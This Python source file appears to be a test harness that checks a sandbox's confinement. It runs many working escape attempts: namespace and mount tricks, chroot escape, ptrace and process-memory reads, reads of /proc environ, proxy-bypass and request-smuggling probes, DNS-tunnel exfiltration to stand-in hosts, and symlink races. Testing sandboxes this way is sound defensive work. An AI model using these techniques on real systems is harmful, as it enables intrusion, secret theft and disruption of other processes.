"""Programs that try to touch what is not theirs, one function each: true when it worked.

    python attacks.py '{"ledger": ..., ...}'    runs every one in a process of its own, prints {"result": {name: true}}

They know everything that an attacker could find out: the paths, the process ids, the ports. `reached` lists what a
task must never reach; `confined` what only `strict` holds.
"""

import ctypes
import glob
import json
import os
import resource
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import suppress

SECONDS = 5
WITHOUT_A_FENCE = (
    *("read_the_ledger", "write_the_ledger", "forge_a_result", "read_a_journal", "write_an_artifact_of_another"),
    *("change_the_cached_contract", "change_the_configuration", "read_the_home_folder", "kill_the_caller"),
    *("kill_a_bystander", "environment_of_a_bystander", "talk_to_a_container_engine", "talk_to_an_abstract_socket"),
    "inherited_descriptors",
)
"""The attacks that are tried without a fence too: they touch nothing but what the trial has made for them."""
BOUNDED_WITHOUT_A_FENCE = (
    *("connect_directly", "datagrams_to_the_machine", "a_pathname_socket", "an_abstract_socket"),
    *("a_link_in_a_granted_folder", "a_hard_link_in_a_granted_folder", "a_link_that_changes_while_it_is_opened"),
    *("read_beside_what_is_granted", "write_beside_what_is_granted"),
)
"""The same of those past a contract's hosts and folders."""
TARGETS: dict = {}
libc = ctypes.CDLL(None, use_errno=True)

Attack = Callable[[], bool]
REACHED: dict[str, Attack] = {}
CONFINED: dict[str, Attack] = {}
BOUNDED: dict[str, Attack] = {}
"""What a contract's `network` and `files` hold, in `auto` as in `strict`."""


def reached(attack: Attack) -> Attack:
    REACHED[attack.__name__] = attack
    return attack


def confined(attack: Attack) -> Attack:
    CONFINED[attack.__name__] = attack
    return attack


def bounded(attack: Attack) -> Attack:
    BOUNDED[attack.__name__] = attack
    return attack


def reads(path: str) -> bool:
    with open(path, "rb") as file:
        return b"SECRET" in file.read(1 << 20)


def writes(path: str) -> bool:
    with open(path, "r+b") as file:
        file.write(b"forged")
    return True


def shell(script: str) -> bool:
    done = subprocess.run(["sh", "-c", script], capture_output=True, check=False, timeout=SECONDS)
    return b"SECRET" in done.stdout


# --- the ledger and what belongs to it -------------------------------------------------------------------------------


@reached
def read_the_ledger():
    return reads(TARGETS["ledger"])


@reached
def write_the_ledger():
    return writes(TARGETS["ledger"])


@reached
def append_to_the_write_ahead_log():
    with open(TARGETS["ledger"] + "-wal", "ab") as file:
        file.write(b"forged")
    return False  # the trial compares: in a folder of the attempt's own it is no harm


@reached
def read_the_write_ahead_log():
    return reads(TARGETS["ledger"] + "-wal")


@reached
def plant_a_rollback_journal():
    """SQLite would play it back into the ledger at the next opening."""
    with open(TARGETS["ledger"] + "-journal", "wb") as file:
        file.write(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + b"forged" * 100)
    return False  # the trial compares: in a folder of the attempt's own it is no harm


@reached
def replace_the_ledger_by_rename():
    forged = TARGETS["ledger"] + ".forged"
    with open(forged, "wb") as file:
        file.write(b"forged")
    os.rename(forged, TARGETS["ledger"])
    return False  # the trial compares: in a folder of the attempt's own it is no harm


@reached
def remove_the_ledger():
    os.unlink(TARGETS["ledger"])
    return False  # the trial compares: in a folder of the attempt's own it is no harm


@reached
def hard_link_to_the_ledger():
    os.link(TARGETS["ledger"], os.path.join(TARGETS["artifacts"], "link"))
    return reads(os.path.join(TARGETS["artifacts"], "link"))


@reached
def symbolic_link_to_the_ledger():
    link = os.path.join(TARGETS["artifacts"], "symbolic")
    os.symlink(TARGETS["ledger"], link)
    return reads(link)


@reached
def hold_the_locks_of_all_runs():
    import fcntl

    with open(TARGETS["ledger"] + ".runs", "r+b") as file:
        fcntl.fcntl(file, fcntl.F_OFD_SETLK, struct.pack("hhqqi4x", fcntl.F_WRLCK, 0, 0, 0, 0))
    return True


@reached
def hold_the_write_queue():
    import fcntl

    with open(TARGETS["ledger"] + ".lock", "r+b") as file:
        fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return True


@reached
def list_the_results():
    return any(TARGETS["token"] in name for name in os.listdir(TARGETS["ledger"] + ".results"))


@reached
def read_a_result():
    return reads(os.path.join(TARGETS["ledger"] + ".results", TARGETS["token"]))


@reached
def forge_a_result():
    path = os.path.join(TARGETS["ledger"] + ".results", TARGETS["token"])
    with open(path, "wb") as file:
        file.write(b"forged")
    return True


@reached
def read_a_journal():
    return reads(os.path.join(TARGETS["ledger"] + ".results", TARGETS["token"] + ".journal"))


@reached
def list_the_artifacts_of_others():
    return TARGETS["token"] in os.listdir(TARGETS["ledger"] + ".artifacts")


@reached
def read_an_artifact_of_another():
    return reads(os.path.join(TARGETS["ledger"] + ".artifacts", TARGETS["token"], "report"))


@reached
def write_an_artifact_of_another():
    return writes(os.path.join(TARGETS["ledger"] + ".artifacts", TARGETS["token"], "report"))


@reached
def climb_out_of_the_own_artifacts():
    return reads(os.path.join(TARGETS["artifacts"], "..", TARGETS["token"], "report"))


@reached
def read_a_recording():
    return any(reads(path) for path in glob.glob(os.path.join(TARGETS["recordings"], "*")))


@reached
def change_the_cached_contract():
    (path,) = glob.glob(os.path.join(TARGETS["cache"], "*"))
    return writes(path)


@reached
def add_a_cached_contract():
    with open(os.path.join(TARGETS["cache"], "planted.json"), "w") as file:
        file.write("forged")
    return True


@reached
def change_the_configuration():
    return writes(TARGETS["configuration"])


@reached
def replace_the_configuration():
    forged = TARGETS["configuration"] + ".new"
    with open(forged, "w") as file:
        file.write("forged")
    os.rename(forged, TARGETS["configuration"])
    return True


# --- ways around a view of the files ----------------------------------------------------------------------------------


@reached
def through_the_root_of_another_process():
    return reads(f"/proc/{TARGETS['bystander']}/root{TARGETS['ledger']}")


@reached
def through_the_working_directory_of_another_process():
    name = os.path.basename(TARGETS["ledger"])
    return reads(f"/proc/{TARGETS['bystander']}/cwd/{name}")


@reached
def through_the_descriptors_of_the_caller():
    for pid in (TARGETS["caller"], os.getppid(), 1):
        for path in glob.glob(f"/proc/{pid}/fd/*"):
            with suppress(OSError):
                if TARGETS["ledger"] in (link := os.readlink(path)) and ".log" not in link:
                    return True
    return False


@reached
def unmount_the_cover():
    return libc.umount2(TARGETS["ledger"].encode(), 2) == 0


@reached
def unmount_in_a_new_user_namespace():
    return shell(f"unshare -Urm sh -c 'umount {TARGETS['ledger']}; cat {TARGETS['ledger']}'")


@reached
def bind_the_folder_elsewhere():
    folder, name = os.path.split(TARGETS["ledger"])
    here = TARGETS["artifacts"]
    return shell(f"unshare -Urm sh -c 'mkdir -p {here}/b; mount --bind {folder} {here}/b; cat {here}/b/{name}'")


@reached
def lay_a_file_system_over_the_folder():
    folder, name = os.path.split(TARGETS["ledger"])
    here = TARGETS["artifacts"]
    dirs = f"mkdir -p {here}/l {here}/m"
    overlay = f"mount -t overlay o -o lowerdir={folder}:{here}/l {here}/m"
    return shell(f"unshare -Urm sh -c '{dirs}; {overlay}; cat {here}/m/{name}'")


@reached
def join_the_mounts_of_another_process():
    with open(f"/proc/{TARGETS['bystander']}/ns/mnt") as file:
        if libc.setns(file.fileno(), 0) != 0:
            return False
    return reads(TARGETS["ledger"])


@reached
def open_by_handle():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    mount_id = ctypes.c_int()
    path = TARGETS["ledger"].encode()
    if libc.name_to_handle_at(-100, path, handle, ctypes.byref(mount_id), 0) != 0:
        return False
    with open(os.path.dirname(TARGETS["ledger"])) as folder:
        fd = libc.open_by_handle_at(folder.fileno(), handle, os.O_RDONLY)
    return fd >= 0 and b"SECRET" in os.read(fd, 1 << 16)


@reached
def read_the_disk():
    with open("/proc/self/mounts") as mounts:
        devices = {line.split()[0] for line in mounts}
    for device in devices:
        if device.startswith("/dev/"):
            with suppress(OSError), open(device, "rb") as disk:
                if disk.read(4096).strip(b"\0"):
                    return True
    return False


@reached
def make_a_device_of_the_disk():
    node = os.path.join(TARGETS["artifacts"], "disk")
    os.mknod(node, 0o600 | 0o060000, os.stat(TARGETS["ledger"]).st_dev)
    with open(node, "rb") as disk:
        return bool(disk.read(512))


@reached
def leave_the_root():
    os.chroot(TARGETS["artifacts"])
    for _ in range(20):
        os.chdir("..")
    os.chroot(".")
    return reads(TARGETS["ledger"])


@reached
def let_the_kernel_run_a_program():
    """As root of the machine: a crash would start it outside of everything. It is opened and left as it is."""
    os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))
    return True


# --- processes that are not the task's ----------------------------------------------------------------------------------


@reached
def kill_the_caller():
    os.kill(TARGETS["caller"], 0)
    return True


@reached
def kill_a_bystander():
    os.kill(TARGETS["bystander"], signal.SIGTERM)
    return True


@reached
def kill_everybody():
    """Sent only where the caller, of our own user, has turned out to be out of reach: else it would work, and hurt."""
    caller = f"/proc/{TARGETS['caller']}"
    if not os.path.exists(caller):
        return False  # in a PID namespace there is nobody else
    if os.stat(caller).st_uid != os.getuid():
        return False  # another user's: proves nothing
    try:
        os.kill(TARGETS["caller"], 0)
    except PermissionError:
        pass
    else:
        return True
    if os.fork() == 0:
        os.setsid()
        with suppress(OSError):
            os.kill(-1, signal.SIGUSR1)  # the bystander notes it
        os._exit(0)
    os.wait()
    time.sleep(0.1)
    return False  # the bystander knows


@reached
def kill_by_descriptor():
    signal.pidfd_send_signal(os.pidfd_open(TARGETS["bystander"]), 0)
    return True


@reached
def environment_of_the_caller():
    return reads(f"/proc/{TARGETS['caller']}/environ")


@reached
def environment_of_a_bystander():
    return reads(f"/proc/{TARGETS['bystander']}/environ")


@reached
def environment_of_the_host():
    """The program was given none of the keys that the host has."""
    parent = os.getppid()
    with open(f"/proc/{parent}/stat") as file:
        grand = int(file.read().rpartition(")")[2].split()[1])
    for pid in (parent, grand):
        with suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
            if file.read(1):
                return pid != os.getpid() and pid != PROGRAM
    return False


@reached
def memory_of_the_host():
    for pid in (PROGRAM_PARENT, TARGETS["caller"], TARGETS["bystander"]):
        with suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
            return pid > 0
    return False


@reached
def trace_a_bystander():
    return libc.ptrace(16, TARGETS["bystander"], 0, 0) == 0  # PTRACE_ATTACH


@reached
def read_memory_by_call():
    buffer = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
    remote = (ctypes.c_void_p * 2)(TARGETS["address"], 8)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    return libc.process_vm_readv(TARGETS["bystander"], local, 1, remote, 1, 0) > 0


@reached
def take_a_descriptor_of_another():
    pidfd = os.pidfd_open(TARGETS["bystander"])
    return libc.syscall(438, pidfd, 0, 0) >= 0  # pidfd_getfd


@confined
def bend_the_limits_of_another():
    resource.prlimit(TARGETS["bystander"], resource.RLIMIT_NOFILE, (8, 8))
    return True


@reached
def inherited_descriptors():
    """Nothing of the ledger's is handed on: neither the run's lock nor a result."""
    for name in os.listdir("/proc/self/fd"):
        with suppress(OSError):
            if TARGETS["ledger"] in os.readlink(f"/proc/self/fd/{name}") and ".log" not in os.readlink(
                f"/proc/self/fd/{name}"
            ):
                return True
    return False


@reached
def become_another_user():
    """Another user may be sent signals by root only; a task that may change its user is still shut in."""
    if os.getuid() == 0:
        os.setuid(65534)
    os.kill(TARGETS["bystander"], 0)
    return True


@reached
def gain_by_a_setuid_program():
    for program in ("su", "sudo", "pkexec", "newgrp"):
        done = subprocess.run(
            ["sh", "-c", f"command -v {program} && {program} -c 'cat {TARGETS['ledger']}' </dev/null"],
            capture_output=True,
            check=False,
            timeout=SECONDS,
        )
        if b"SECRET" in done.stdout:
            return True
    return False


@reached
def leave_a_process_behind():
    """Without an environment, in a session of its own, its parents gone. The trial looks for it."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 64)
            os.execve(sys.executable, [sys.executable, "-S", "-c", f"import time; time.sleep({TARGETS['sleep']})"], {})
        os._exit(0)
    os.wait()
    return False


@reached
def fork_and_end_faster_than_anybody_looks():
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 64)
        end = time.monotonic() + 30
        while time.monotonic() < end:
            if os.fork():
                os._exit(0)
        os._exit(0)
    os.wait()
    return False


# --- what only strict holds ---------------------------------------------------------------------------------------------


@confined
def write_beside_the_contract():
    with open(os.path.join(os.path.dirname(TARGETS["configuration"]), "planted.toml"), "w") as file:
        file.write("forged")
    return os.path.dirname(TARGETS["configuration"]) not in TARGETS["own"]


@confined
def change_the_package():
    planted = os.path.join(TARGETS["package"], "planted.txt")
    with open(planted, "w"):
        os.unlink(planted)
    return True


@confined
def write_in_the_home_folder():
    with open(os.path.join(TARGETS["home"], ".profile-planted"), "w") as file:
        file.write("")
    return True


@confined
def read_the_home_folder():
    return reads(os.path.join(TARGETS["home"], "key"))


@confined
def see_other_processes():
    return (
        os.path.exists(f"/proc/{TARGETS['bystander']}/cmdline")
        and b"bystander" in open(f"/proc/{TARGETS['bystander']}/cmdline", "rb").read()
    )


@confined
def talk_to_a_container_engine():
    """Whoever may ask it for a container has the machine."""
    with socket.socket(socket.AF_UNIX) as to:
        to.connect(TARGETS["engine"])
    return True


@confined
def talk_to_an_abstract_socket():
    with socket.socket(socket.AF_UNIX) as to:
        to.connect("\0" + TARGETS["abstract"])
    return True


@confined
def raw_sockets():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    return True


@confined
def sockets_by_io_uring():
    """It makes and connects sockets past a filter of calls."""
    parameters = ctypes.create_string_buffer(120)
    return libc.syscall(425, 4, parameters) >= 0


@confined
def new_user_namespace():
    return libc.unshare(0x10000000) == 0


@confined
def kernel_keyring():
    return libc.syscall(248, b"user", b"workermd-attack", b"x", 1, -3) > 0


@confined
def shared_memory_of_others():
    return any(reads(path) for path in glob.glob("/dev/shm/workermd-attack-*"))


@confined
def message_queues_of_others():
    return libc.shmget(TARGETS["shared"], 0, 0) >= 0


@confined
def files_in_the_temporary_folder_of_others():
    return reads(TARGETS["temporary"])


# --- past the list of hosts and the granted folders ------------------------------------------------------------------


def asked(*requests: str, host: str = "", port: int = 0) -> bytes:
    """What the proxy, or another server, answers to these bytes on one connection."""
    at = host or "127.0.0.1", port or int(os.environ["HTTPS_PROXY"].rpartition(":")[2])
    said = b""
    with socket.create_connection(at, 2) as line:
        line.settimeout(2)
        for request in requests:
            line.sendall(request.encode())
            with suppress(TimeoutError):
                said += line.recv(1 << 16)
    return said


def through(target: str, *, plain: str = "") -> bool:
    """Whether the proxy opens a way to a target, or fetches an address, and the other service answers there."""
    head = f"GET {plain} HTTP/1.1\r\nHost: x\r\n\r\n" if plain else f"CONNECT {target} HTTP/1.1\r\n\r\n"
    return b"SECRET" in asked(head, *([] if plain else ["GET / HTTP/1.1\r\nHost: x\r\n\r\n"]))


def outside() -> str:
    return f"127.0.0.1:{TARGETS['outside']}"


@bounded
def connect_directly():
    return b"SECRET" in asked("GET / HTTP/1.0\r\n\r\n", host="127.0.0.1", port=TARGETS["outside"])


@bounded
def connect_to_another_port_by_the_proxy():
    return through(outside())


@bounded
def fetch_from_another_port_by_the_proxy():
    return through("", plain=f"http://{outside()}/")


@bounded
def a_name_of_the_listed_address():
    return through("", plain=f"http://localhost:{TARGETS['listed']}/") or through(f"localhost:{TARGETS['listed']}")


@bounded
def user_and_host_in_one():
    listed = f"127.0.0.1:{TARGETS['listed']}"
    return through(f"{listed}@{outside()}") or through("", plain=f"http://{listed}@{outside()}/")


@bounded
def spellings_of_the_address():
    port = TARGETS["outside"]
    names = ("0x7f.1", "2130706433", "[::ffff:127.0.0.1]", "127.1", "0", "localhost", "LOCALHOST", "127.0.0.1.")
    return any(through(f"{name}:{port}") for name in names)


@bounded
def a_second_host_on_an_open_connection():
    first = f"GET http://127.0.0.1:{TARGETS['listed']}/ HTTP/1.1\r\nHost: x\r\nConnection: keep-alive\r\n\r\n"
    return b"SECRET" in asked(first + f"GET http://{outside()}/ HTTP/1.1\r\nHost: x\r\n\r\n")


@bounded
def a_second_request_smuggled_in_a_header():
    head = (
        f"GET http://127.0.0.1:{TARGETS['listed']}/ HTTP/1.1\nHost: {outside()}\r\nX: y\nConnection: keep-alive\r\n\r\n"
    )
    return b"SECRET" in asked(head)


@bounded
def a_redirect_to_another_host():
    import urllib.request

    with urllib.request.urlopen(f"http://127.0.0.1:{TARGETS['listed']}/away", timeout=3) as answer:
        return b"SECRET" in answer.read()


@bounded
def a_tunnel_of_names():
    """Every label would carry something out, if the proxy asked anybody for it."""
    said = asked("CONNECT c2VjcmV0.tunnel.example:443 HTTP/1.1\r\n\r\n")
    return b" 403 " not in said and bool(said)


@bounded
def ask_a_name_server():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        return line.sendto(b"\0\1\1\0\0\1" + bytes(6) + b"\6secret\7example\0\0\1\0\1", ("192.0.2.53", 53)) > 0


@bounded
def datagrams_to_the_machine():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.connect(("127.0.0.1", TARGETS["datagrams"]))
        line.send(b"SECRET")
        time.sleep(0.1)
        line.send(b"SECRET")
    return False  # the trial looks what came


@bounded
def raw_packets():
    for family, kind in (
        (socket.AF_PACKET, socket.SOCK_RAW),
        (socket.AF_INET, socket.SOCK_RAW),
        (40, socket.SOCK_STREAM),
    ):
        with suppress(OSError), socket.socket(family, kind, 1) as line:
            if family == socket.AF_INET:
                line.sendto(bytes(8), ("192.0.2.1", 0))
            return True
    return False


@bounded
def a_pathname_socket():
    with socket.socket(socket.AF_UNIX) as line:
        line.connect(TARGETS["engine"])
    return True


@bounded
def an_abstract_socket():
    with socket.socket(socket.AF_UNIX) as line:
        line.connect("\0" + TARGETS["abstract"])
    return True


@bounded
def enter_the_network_of_the_caller():
    with open(f"/proc/{TARGETS['caller']}/ns/net", "rb") as file:
        return libc.setns(file.fileno(), 0x40000000) == 0


@bounded
def another_interface():
    made = subprocess.run(["ip", "link", "add", "w0", "type", "dummy"], capture_output=True, check=False)
    return made.returncode == 0


@bounded
def kill_the_proxy():
    """It is no process of the attempt's: whoever ended it could take its place on the port."""
    before = asked(f"CONNECT {outside()} HTTP/1.1\r\n\r\n")
    for pid in range(max(TARGETS["caller"] - 50, 2), TARGETS["caller"] + 400):
        with suppress(OSError), open(f"/proc/{pid}/cmdline", "rb") as file:
            if b"workermd" in file.read() and pid not in (os.getpid(), PROGRAM, PROGRAM_PARENT):
                os.kill(pid, signal.SIGKILL)
    return asked(f"CONNECT {outside()} HTTP/1.1\r\n\r\n") != before


@bounded
def a_link_in_a_granted_folder():
    link = os.path.join(TARGETS["cache_granted"], "link")
    os.symlink(TARGETS["secret"], link)
    return reads(link)


@bounded
def a_hard_link_in_a_granted_folder():
    link = os.path.join(TARGETS["cache_granted"], "hard")
    os.link(TARGETS["secret"], link)
    return reads(link)


@bounded
def a_link_that_changes_while_it_is_opened():
    """One process points it inside and outside in turn, another opens it: nothing is checked before it is opened."""
    folder = TARGETS["cache_granted"]
    inside, link = os.path.join(folder, "inside"), os.path.join(folder, "racing")
    with open(inside, "w") as file:
        file.write("plain")
    os.symlink(inside, link)
    pid = os.fork()
    if pid == 0:
        until = time.monotonic() + 2
        while time.monotonic() < until:
            for target in (TARGETS["secret"], inside):
                os.symlink(target, link + ".new")
                os.rename(link + ".new", link)
        os._exit(0)
    until, found = time.monotonic() + 2, False
    while time.monotonic() < until and not found:
        with suppress(OSError):
            found = reads(link)
    os.waitpid(pid, 0)
    return found


@bounded
def a_folder_that_changes_while_it_is_walked():
    folder = os.path.join(TARGETS["cache_granted"], "walked")
    os.makedirs(os.path.join(folder, "real"), exist_ok=True)
    os.symlink(os.path.dirname(TARGETS["secret"]), os.path.join(folder, "away"))
    place = os.path.join(folder, "place")
    os.mkdir(place)
    pid = os.fork()
    if pid == 0:
        until = time.monotonic() + 2
        while time.monotonic() < until:
            with suppress(OSError):
                libc.syscall(
                    316, -100, place.encode(), -100, os.path.join(folder, "away").encode(), 2
                )  # exchange the two
        os._exit(0)
    until, found = time.monotonic() + 2, False
    while time.monotonic() < until and not found:
        with suppress(OSError):
            found = reads(os.path.join(place, os.path.basename(TARGETS["secret"])))
    os.waitpid(pid, 0)
    return found


@bounded
def move_a_granted_folder_away():
    os.rename(TARGETS["cache_granted"], TARGETS["cache_granted"] + ".moved")
    return True


@bounded
def write_into_what_is_granted_for_reading():
    with open(os.path.join(TARGETS["rules_granted"], "rule"), "w") as file:
        file.write("forged")
    return True


@bounded
def read_beside_what_is_granted():
    return reads(TARGETS["secret"]) or reads(os.path.join(TARGETS["cache_granted"], "..", "elsewhere", "secret"))


@bounded
def write_beside_what_is_granted():
    with open(os.path.join(os.path.dirname(TARGETS["secret"]), "new"), "w") as file:
        file.write("forged")
    return True


def tried(attack: Attack) -> bool:
    """In a process of its own, for a few seconds."""
    ours, theirs = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(ours)
        signal.alarm(SECONDS)
        worked = False
        try:
            worked = bool(attack())
        except BaseException as error:  # noqa: BLE001 - whatever an attack meets
            sys.stderr.write(f"{attack.__name__}: {error!r}\n")
        os.write(theirs, b"1" if worked else b"0")
        os._exit(0)
    os.close(theirs)
    os.set_blocking(ours, True)
    word = os.read(ours, 1)
    os.close(ours)
    os.waitpid(pid, 0)
    return word == b"1"


PROGRAM = os.getpid()
PROGRAM_PARENT = os.getppid()


def main() -> None:
    TARGETS.update(json.loads(sys.argv[1]))
    sys.stdin.read()
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)  # of the attack that signals everybody, ourselves among them
    every = BOUNDED if TARGETS.get("bounded") else REACHED | CONFINED
    harmless = BOUNDED_WITHOUT_A_FENCE if TARGETS.get("bounded") else WITHOUT_A_FENCE
    attacks = {name: every[name] for name in (harmless if TARGETS["mode"] == "off" else every)}
    print(json.dumps({"result": {name: tried(attack) for name, attack in attacks.items()}}), flush=True)


if __name__ == "__main__":
    main()
